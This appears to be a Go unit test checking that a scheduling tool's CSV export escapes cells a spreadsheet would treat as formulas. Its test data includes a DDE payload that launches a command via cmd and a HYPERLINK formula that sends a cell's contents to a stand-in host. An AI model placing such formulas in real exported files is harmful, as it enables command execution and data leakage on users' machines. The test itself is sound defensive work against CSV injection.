package schedule

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/commontext/commontext/engine/plan"
)

// TestCSVNoFormulas: a cell that a spreadsheet would read as a formula is
// written as text (issue 12: a meeting place `@SUM(1+1)*cmd|" /C calc"!A0`
// went into the CSV as it was).
func TestCSVNoFormulas(t *testing.T) {
	for _, tt := range []struct{ place, want string }{
		{`@SUM(1+1)*cmd|" /C calc"!A0`, `'@SUM(1+1)*cmd|" /C calc"!A0`},
		{`=HYPERLINK("http://x.example/?"&A1,"x")`, `'=HYPERLINK("http://x.example/?"&A1,"x")`},
		{`+1+1`, `'+1+1`},
		{`-2+3`, `'-2+3`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'=1+1"}, // encoding/csv reads a quoted CR as nothing
		{`Geneva, CH`, `Geneva, CH`},
		{`Geneva = CH`, `Geneva = CH`},
	} {
		p := isAAP()
		for _, ms := range [][]plan.Meeting{p.Meetings.ITU, p.Meetings.JTC1, p.Meetings.CT} {
			for i := range ms {
				ms[i].Place = tt.place
			}
		}
		s := mustNew(t, p, Options{})
		var buf bytes.Buffer
		if err := s.WriteCSV(&buf, "best"); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows[1:] {
			if row[9] == "" {
				continue
			}
			found = true
			if row[10] != tt.want {
				t.Errorf("place %q written as %q, want %q", tt.place, row[10], tt.want)
			}
		}
		if !found {
			t.Fatal("no step at a meeting")
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
	}
}
